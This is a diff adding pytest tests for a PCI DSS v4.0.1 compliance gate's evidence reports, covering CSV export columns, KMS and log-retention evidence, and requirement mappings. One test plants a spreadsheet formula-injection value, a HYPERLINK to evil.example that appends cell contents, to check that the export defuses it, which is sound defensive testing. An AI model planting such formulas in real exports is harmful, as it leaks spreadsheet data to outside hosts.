@@ -1,0 +1,133 @@
+"""Evidence an assessor reads (issue 17): a value behind every verdict, PASS included, read from the resource or
+its companion resources; the CSV export of every evidence row; honest PCI DSS v4.0.1 mappings in the reports."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from policies.reports import write_reports
+from tests.reports import fixtures
+
+
+def evidence_items(results: dict):
+    for row in results["results"]:
+        for evidence in row["evidence"]:
+            yield row, evidence
+
+
+def test_every_evidence_row_pass_included_carries_the_path_and_the_value_observed(gate_results):
+    checked = 0
+    for row, evidence in evidence_items(gate_results):
+        if evidence["verdict"] == "ERROR":
+            continue
+        checked += 1
+        where = (row["control"], row["resource"]["address"], evidence["check"])
+        assert evidence["attribute"], where
+        assert evidence["observed"] is not None, where
+        if evidence["layer"] == "checkov":  # path -> value for every key checkov evaluated
+            assert isinstance(evidence["observed"], dict) and evidence["observed"], where
+    compliant = [e for _, e in evidence_items(gate_results) if e["verdict"] == "COMPLIANT"]
+    assert checked > 1000 and len(compliant) > 1000
+
+
+def test_compliant_encryption_evidence_names_the_customer_managed_key(gate_results):
+    """3.5.1 behind a PASS: the KMS key reference itself, not null."""
+    rows = [r for r in gate_results["results"] if r["control"] == "PCI-ENC-001" and r["verdict"] == "COMPLIANT"]
+    assert rows
+    for row in rows:
+        [kms] = [e for e in row["evidence"] if e["check"] == "rds-cluster-storage-cmk"]
+        assert kms["verdict"] == "COMPLIANT" and "aws_kms_key" in kms["observed"], kms
+
+
+def test_compliant_retention_evidence_shows_the_days(gate_results):
+    """10.5.1 behind a PASS: the retention in days, at least the catalog's minimum."""
+    rows = [r for r in gate_results["results"] if r["control"] == "PCI-LOG-001" and r["verdict"] == "COMPLIANT"]
+    assert rows
+    for row in rows:
+        days = [e["observed"] for e in row["evidence"] if e["layer"] == "jmespath"]
+        assert days and all(isinstance(d, int) and d >= 365 for d in days), row["resource"]["address"]
+
+
+def test_checkov_evidence_reads_a_value_on_the_companion_resource(gate_results):
+    """The S3 default encryption lives on the bucket's encryption configuration resource: its values are shown,
+    named after that resource, for compliant and excepted buckets alike."""
+    rows = [r for r in gate_results["results"] if r["control"] == "PCI-ENC-004"]
+    assert {r["verdict"] for r in rows} >= {"COMPLIANT", "EXCEPTED"}
+    for row in rows:
+        observed = {key: value for e in row["evidence"] if e["layer"] == "checkov"
+                    for key, value in e["observed"].items()}
+        companion = {k: v for k, v in observed.items()
+                     if k.startswith("aws_s3_bucket_server_side_encryption_configuration.") and v is not None}
+        assert companion, (row["resource"]["address"], observed)
+        algorithms = json.dumps(companion)
+        assert ("aws:kms" in algorithms) == (row["verdict"] == "COMPLIANT"), companion
+
+
+def test_the_csv_export_has_one_line_per_evidence_row_with_the_assessor_columns(gate_results, real_reports):
+    lines = list(csv.reader(io.StringIO((real_reports / "evidence.csv").read_text())))
+    assert lines[0] == ["environment", "control", "requirement", "resource", "path", "observed", "expected",
+                        "verdict"]
+    body = lines[1:]
+    assert len(body) == sum(1 for _ in evidence_items(gate_results))
+    assert {line[0] for line in body} == {"dev", "staging", "prod"}
+    assert {line[7] for line in body} >= {"COMPLIANT", "EXCEPTED"}
+    assert all(line[4] and line[5] and line[6] for line in body)
+    kms = [line for line in body if line[1] == "PCI-ENC-001" and line[7] == "COMPLIANT"]
+    assert kms and all("3.5.1" in line[2].split() for line in kms)
+    assert any("aws_kms_key" in line[5] for line in kms)
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas(fixture_synth, tmp_path, no_pdf):
+    document = fixtures.noncompliant_document(fixture_synth)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    document["results"][1]["evidence"][0]["observed"] = formula
+    document["results"][1]["evidence"][0]["expected"] = "@SUM(1+1)"
+    write_reports(document, tmp_path / "reports", baseline=None, synth_dir=fixture_synth)
+    lines = list(csv.reader(io.StringIO((tmp_path / "reports" / "evidence.csv").read_text())))
+    cells = [cell for line in lines for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert "'@SUM(1+1)" in cells and "'" + json.dumps(formula) not in cells  # JSON quotes it: starts with "
+
+
+@pytest.fixture(scope="module")
+def report_md(real_reports) -> str:
+    return (real_reports / "report.md").read_text()
+
+
+def test_the_requirement_view_shows_paraphrases_strengths_and_what_the_gate_cannot_evidence(gate_results, report_md):
+    assert gate_results["requirements"]["version"] == "4.0.1"
+    paraphrases = gate_results["requirements"]["paraphrases"]
+    assert "3.5.1" in paraphrases and paraphrases["3.5.1"] in report_md
+    assert "## PCI DSS v4.0.1 requirement view" in report_md
+    assert "### Requirements this gate cannot evidence" in report_md
+    for item in gate_results["requirements"]["not_evidenced"]:
+        assert f"| {item['requirement']} | {item['kind']} |" in report_md
+    view = report_md.split("## PCI DSS v4.0.1 requirement view")[1].split("### Supporting evidence only")[0]
+    assert "10.4.1" not in view and "12.10.5" not in view  # supporting or unmapped: no verdict row
+    assert "partial: " in view
+
+
+def test_a_requirement_verdict_ignores_a_failing_supporting_control(fixture_synth, tmp_path, no_pdf):
+    """10.2.1 held by a partial control that passes stays PASS although a supporting control of it fails."""
+    rows = [fixtures.Row("PCI-TST-004", "dev", "aws_lambda_function", "checkout", "COMPLIANT"),
+            fixtures.Row("PCI-TST-005", "dev", "aws_lambda_function", "checkout", "NON_COMPLIANT", {"x": 1})]
+    controls = (fixtures.Control("PCI-TST-004", "Functions write access logs", ("10.2.1",), "low"),
+                fixtures.Control("PCI-TST-005", "Functions are traced", (), "medium"))
+    document = fixtures.results_document(fixture_synth, rows, controls=controls)
+    document["schema_version"] = "1.2.0"
+    document["controls"][0]["mappings"] = [{"requirement": "10.2.1", "strength": "partial", "reason": "logs"}]
+    document["controls"][1]["mappings"] = [{"requirement": "10.2.1", "strength": "supporting", "reason": "traces"}]
+    document["requirements"] = {"version": "4.0.1", "paraphrases": {"10.2.1": "Audit logs are on."},
+                                "not_evidenced": [{"requirement": "10.4.1", "kind": "process",
+                                                   "paraphrase": "Logs are reviewed daily."}]}
+    write_reports(document, tmp_path / "reports", baseline=None, synth_dir=fixture_synth)
+    markdown = (tmp_path / "reports" / "report.md").read_text()
+    view = markdown.split("## PCI DSS v4.0.1 requirement view")[1].split("## Exceptions")[0]
+    [verdict_row] = [line for line in view.splitlines() if line.startswith("| 10.2.1: Audit logs are on.")]
+    assert "| PASS |" in verdict_row.replace("**", "") and "PCI-TST-004" in verdict_row
+    assert "PCI-TST-005" not in verdict_row
+    assert "| 10.4.1 | process | Logs are reviewed daily. |" in view
